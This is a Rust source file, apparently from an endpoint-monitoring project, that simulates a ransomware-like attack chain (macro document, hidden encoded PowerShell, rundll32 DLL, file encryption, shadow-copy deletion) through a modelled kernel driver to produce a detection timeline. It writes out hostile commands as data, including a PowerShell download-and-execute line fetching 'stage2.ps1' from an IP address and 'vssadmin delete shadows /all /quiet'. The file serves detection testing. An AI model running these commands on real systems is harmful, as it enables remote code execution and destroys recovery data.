//! The demo: an attack-like sequence played through the real `ringside.sys`
//! in the kernel model, drained through its real READ path, printed as a
//! timeline and optionally written as a replay file (`ringside-wire`'s
//! `replay` format) that `ringside-agent replay FILE` reads.
//!
//! The story: WINWORD.EXE opens a macro document and spawns an encoded,
//! hidden PowerShell; PowerShell drops a DLL into the user's Temp folder and
//! runs it with rundll32; the DLL encrypts documents (write, close, rename to
//! `.locked`), spawns `vssadmin.exe delete shadows /all /quiet`, and deletes
//! its copy of the shadow-copy tool.

use std::path::Path;

use ringside_wire::ioctl::{ConfigureRequest, StatsResponse};
use ringside_wire::replay::{FileHeader, FrameKind, frame_header, padding};
use ringside_wire::{Record, Records};
use zerocopy::IntoBytes;

use crate::agent::{Handle, connected};
use crate::file_io::*;
use crate::machine::Machine;
use crate::scenario::{ProcessSpec, USER_LOGON_ID, domain_sid, integrity_sid};

/// The modelled volume and the drive letter it has on the demo machine.
pub const VOLUME: &str = r"\Device\HarddiskVolume3";
pub const DRIVE: &str = "C:";

/// One READ's bytes and the modelled time the READ completed.
#[derive(Clone, Debug)]
pub struct Batch {
    pub completed_at: u64,
    pub bytes: Vec<u8>,
}

/// What the demo produced: the raw READ batches (what the agent consumes),
/// the driver's final counters, and the replay file bytes.
#[derive(Clone, Debug)]
pub struct Demo {
    pub batches: Vec<Batch>,
    pub stats: StatsResponse,
    pub started_at: u64,
    /// The replay file (FileHeader, VolumeMap, Batch frames, Stats).
    pub replay: Vec<u8>,
}

/// The encoded PowerShell command (`-enc` takes base64 of UTF-16LE).
pub const PAYLOAD: &str = "iex (iwr -UseBasicParsing http://203.0.113.7/stage2.ps1)";

fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[(n >> (18 - 6 * i) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// `powershell.exe -enc` argument for `script`.
pub fn encoded_command(script: &str) -> String {
    let utf16le: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64(&utf16le)
}

struct Script {
    m: Machine,
    handle: Handle,
    batches: Vec<Batch>,
}

impl Script {
    /// The agent's READ loop: one READ, completed by the batch threshold or
    /// the latency bound (modelled time advances until it is).
    fn read(&mut self) -> Result<(), String> {
        let (done, _) = self.m.read_batch(self.handle, 100)?;
        if done.status != 0 {
            return Err(format!("READ failed: {:#x}", done.status));
        }
        if !done.output.is_empty() {
            self.batches.push(Batch {
                completed_at: self.m.kernel().clock,
                bytes: done.output,
            });
        }
        Ok(())
    }

    fn spawn(
        &mut self,
        pid: u32,
        parent: u32,
        image: &str,
        command_line: &str,
        elevated: bool,
    ) -> Result<u64, String> {
        self.m.process_create(&ProcessSpec {
            pid,
            parent_pid: parent,
            creating_pid: parent,
            creating_tid: parent + 4,
            image: format!(r"\??\{DRIVE}{image}"),
            command_line: command_line.into(),
            user_sid: domain_sid(1001),
            integrity_sid: integrity_sid(if elevated { 0x3000 } else { 0x2000 }),
            // UAC: the elevated half of a split token is a logon session
            // of its own (the linked session), beside the filtered one.
            logon_id: if elevated {
                USER_LOGON_ID + 0x21
            } else {
                USER_LOGON_ID
            },
            admin: elevated,
        })
    }

    /// Create (or overwrite) `path`, write to it, close it.
    fn write_file(&mut self, who: Requestor, path: &str, information: u64) -> Result<(), String> {
        let f = self.m.new_file_object(&format!("{VOLUME}{path}"));
        self.m.file_create(
            who,
            f,
            GENERIC_WRITE | SYNCHRONIZE,
            FILE_NON_DIRECTORY_FILE,
            0,
            information,
        )?;
        self.m.file_write(who, f, 64 * 1024, false)?;
        self.m.file_write(who, f, 64 * 1024, false)?;
        self.m.file_cleanup(who, f)?;
        self.m.free_file_object(f);
        Ok(())
    }

    fn rename(&mut self, who: Requestor, path: &str, new_path: &str) -> Result<(), String> {
        let f = self.m.new_file_object(&format!("{VOLUME}{path}"));
        self.m
            .file_create(who, f, DELETE | SYNCHRONIZE, 0, 0, FILE_OPENED)?;
        self.m
            .file_rename(who, f, &format!("{VOLUME}{new_path}"), false)?;
        self.m.file_cleanup(who, f)?;
        self.m.free_file_object(f);
        Ok(())
    }

    fn delete(&mut self, who: Requestor, path: &str) -> Result<(), String> {
        let f = self.m.new_file_object(&format!("{VOLUME}{path}"));
        self.m
            .file_create(who, f, DELETE | SYNCHRONIZE, 0, 0, FILE_OPENED)?;
        self.m.file_delete_disposition(who, f)?;
        self.m.file_cleanup(who, f)?;
        self.m.free_file_object(f);
        Ok(())
    }

    /// Time passes between steps of the story (timers fire on the way).
    fn pause_ms(&mut self, ms: u64) -> Result<(), String> {
        self.m.advance_time_100ns(ms * 10_000)
    }
}

/// Runs the demo on `sys` (the driver image) and, with `record`, writes
/// the replay file there.
pub fn run_demo(sys: &[u8], record: Option<&Path>) -> Result<Demo, String> {
    let config = ConfigureRequest::default();
    let (m, handle) = connected(sys, &config)?;
    let started_at = m.kernel().clock;
    let mut s = Script {
        m,
        handle,
        batches: Vec::new(),
    };
    let user = r"\Users\alice";
    let temp = format!(r"{user}\AppData\Local\Temp");

    let word = s.spawn(
        4242,
        1000,
        r"\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        &format!(r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:{user}\Downloads\invoice_0719.docm""#),
        false,
    )?;
    s.m.image_load(
        4242,
        &format!(r"{VOLUME}\Program Files\Common Files\microsoft shared\VBA\VBA7.1\VBE7.DLL"),
        0x7ffb_2000_0000,
        0x2a_6000,
        0,
    )?;
    s.pause_ms(1500)?;
    let ps_cmd = format!(
        "powershell.exe -nop -w hidden -enc {}",
        encoded_command(PAYLOAD)
    );
    let powershell = s.spawn(
        5120,
        4242,
        r"\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        &ps_cmd,
        false,
    )?;
    s.read()?;
    s.pause_ms(800)?;

    let dll = format!(r"{temp}\msupdate64.dll");
    s.write_file(
        Requestor {
            pid: 5120,
            tid: 5124,
        },
        &dll,
        FILE_CREATED,
    )?;
    s.pause_ms(200)?;
    let rundll = s.spawn(
        5300,
        5120,
        r"\Windows\System32\rundll32.exe",
        &format!(r"rundll32.exe C:{dll},DllRegisterServer"),
        false,
    )?;
    s.m.image_load(5300, &format!("{VOLUME}{dll}"), 0x1_8000_0000, 0x4_2000, 0)?;
    s.read()?;
    s.pause_ms(3000)?;

    let ransom = Requestor {
        pid: 5300,
        tid: 5304,
    };
    for doc in [
        "Q3 forecast.xlsx",
        "contract-signed.pdf",
        "thesis_final.docx",
    ] {
        let path = format!(r"{user}\Documents\{doc}");
        s.write_file(ransom, &path, FILE_OVERWRITTEN)?;
        s.rename(ransom, &path, &format!("{path}.locked"))?;
        s.pause_ms(40)?;
    }
    s.write_file(
        ransom,
        &format!(r"{user}\Desktop\README_RESTORE.txt"),
        FILE_CREATED,
    )?;
    s.read()?;

    let vss_copy = format!(r"{temp}\vssadmin.exe");
    s.write_file(ransom, &vss_copy, FILE_CREATED)?;
    let vssadmin = s.spawn(
        5400,
        5300,
        r"\Windows\System32\vssadmin.exe",
        "vssadmin.exe delete shadows /all /quiet",
        true,
    )?;
    s.pause_ms(700)?;
    s.m.process_exit(vssadmin, 0)?;
    s.delete(ransom, &vss_copy)?;
    s.m.process_exit(rundll, 0)?;
    s.m.process_exit(powershell, 0)?;
    s.pause_ms(10)?;
    s.m.process_exit(word, 0)?;
    s.read()?;

    let stats = s.m.stats(handle)?;
    s.m.close_device(handle)?;
    s.m.unload()?;
    if !s.m.findings().is_empty() {
        let list: Vec<String> = s.m.findings().iter().map(ToString::to_string).collect();
        return Err(format!(
            "kernel model verifier findings:\n  {}",
            list.join("\n  ")
        ));
    }
    let replay = replay_file(started_at, &s.batches, &stats);
    if let Some(path) = record {
        std::fs::write(path, &replay).map_err(|e| format!("writing {}: {e}", path.display()))?;
    }
    Ok(Demo {
        batches: s.batches,
        stats,
        started_at,
        replay,
    })
}

/// The replay file: header, the volume map, every batch, the final STATS.
pub fn replay_file(started_at: u64, batches: &[Batch], stats: &StatsResponse) -> Vec<u8> {
    let mut out = FileHeader::new(started_at).as_bytes().to_vec();
    let mut frame = |kind: FrameKind, timestamp: u64, payload: &[u8]| {
        out.extend_from_slice(&frame_header(kind, payload.len() as u32, timestamp));
        out.extend_from_slice(payload);
        out.extend_from_slice(padding(payload.len()));
    };
    frame(
        FrameKind::VolumeMap,
        started_at,
        format!("{VOLUME}\t{DRIVE}\n").as_bytes(),
    );
    for batch in batches {
        frame(FrameKind::Batch, batch.completed_at, &batch.bytes);
    }
    let last = batches.last().map_or(started_at, |b| b.completed_at);
    frame(FrameKind::Stats, last, stats.as_bytes());
    out
}

/// `hh:mm:ss.ffffff` (UTC) of a FILETIME.
fn clock_time(filetime: u64) -> String {
    let micros = filetime / 10;
    let seconds = micros / 1_000_000;
    let day = seconds % 86_400;
    format!(
        "{:02}:{:02}:{:02}.{:06}",
        day / 3600,
        day / 60 % 60,
        day % 60,
        micros % 1_000_000
    )
}

fn dos(name: ringside_wire::RawField<'_>) -> String {
    let name: String = name.chars().collect();
    let name = name.strip_prefix(r"\??\").unwrap_or(&name).to_owned();
    match name.strip_prefix(VOLUME) {
        Some(rest) => format!("{DRIVE}{rest}"),
        None => name,
    }
}

/// The readable timeline of `batches`: one line per record.
pub fn timeline(batches: &[Batch]) -> Result<String, String> {
    let mut out = String::new();
    for batch in batches {
        for record in Records::new(&batch.bytes) {
            let record = record.map_err(|e| format!("decode: {e:?}"))?;
            let h = record.header();
            let (kind, what) = match &record {
                Record::ProcessCreate(e) => (
                    "process create",
                    format!(
                        "{}  parent {}  cmd: {}",
                        dos(e.image_name()),
                        e.body.parent_pid,
                        e.command_line().chars().collect::<String>()
                    ),
                ),
                Record::ProcessExit(e) => {
                    ("process exit", format!("status {:#x}", e.body.exit_status))
                }
                Record::ImageLoad(e) => (
                    "image load",
                    format!("{}  base {:#x}", dos(e.image_name()), e.body.image_base),
                ),
                Record::FileCreate(e) => (
                    "file create",
                    format!("{}  result {}", dos(e.name()), e.body.information),
                ),
                Record::FileWrite(e) => ("file write", dos(e.name())),
                Record::FileRename(e) => (
                    "file rename",
                    format!("{} -> {}", dos(e.old_name()), dos(e.new_name())),
                ),
                Record::FileDelete(e) => (
                    "file delete",
                    format!("{}  flags {:#x}", dos(e.name()), e.body.flags),
                ),
                Record::FileCloseModified(e) => ("close modified", dos(e.name())),
                Record::RegistrySetValue(e) => (
                    "registry set",
                    format!(
                        "{}\\{}  type {}  {} bytes",
                        e.key_name().chars().collect::<String>(),
                        e.value_name().chars().collect::<String>(),
                        e.body.value_type,
                        e.body.data_size
                    ),
                ),
                Record::RegistryKey(e) => (
                    match e.body.operation {
                        ringside_wire::REGISTRY_OP_CREATE_KEY => "registry create",
                        ringside_wire::REGISTRY_OP_DELETE_KEY => "registry delete",
                        _ => "registry del val",
                    },
                    format!(
                        "{} {}",
                        e.key_name().chars().collect::<String>(),
                        e.value_name().chars().collect::<String>()
                    ),
                ),
                Record::RegistryRename(e) => (
                    "registry rename",
                    format!(
                        "{} -> {}",
                        e.key_name().chars().collect::<String>(),
                        e.new_name().chars().collect::<String>()
                    ),
                ),
                Record::ProcessAccess(e) => (
                    "process access",
                    format!(
                        "-> pid {}  granted {:#x}  {} frames",
                        e.body.target_pid,
                        e.body.granted_access,
                        e.call_trace().count()
                    ),
                ),
                Record::NamedPipe(e) => (
                    if e.body.operation == ringside_wire::PIPE_OP_CREATED {
                        "pipe created"
                    } else {
                        "pipe connected"
                    },
                    e.name().chars().collect::<String>(),
                ),
                Record::RemoteThread(e) => (
                    "remote thread",
                    format!(
                        "into pid {}  thread {}  start {:#x}",
                        e.body.target_pid, e.body.new_thread_id, e.body.start_address
                    ),
                ),
                Record::Lost(e) => ("LOST", format!("{:?}", e.body.dropped)),
                Record::Stats(_) => ("stats", String::new()),
            };
            out.push_str(&format!(
                "{}  seq {:>3}  pid {:>5}  {:<15} {}\n",
                clock_time(h.timestamp),
                h.seq,
                h.pid,
                kind,
                what
            ));
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    #[test]
    fn base64_matches_rfc4648_vectors() {
        for (plain, encoded) in [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("foobar", "Zm9vYmFy"),
        ] {
            assert_eq!(super::base64(plain.as_bytes()), encoded);
        }
    }
}
